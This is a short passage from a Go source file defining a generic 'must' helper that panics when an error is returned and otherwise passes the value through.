	}
}

func must[T any](v T, err error) T {
	if err != nil {
		panic(err)
	}
	return v
}
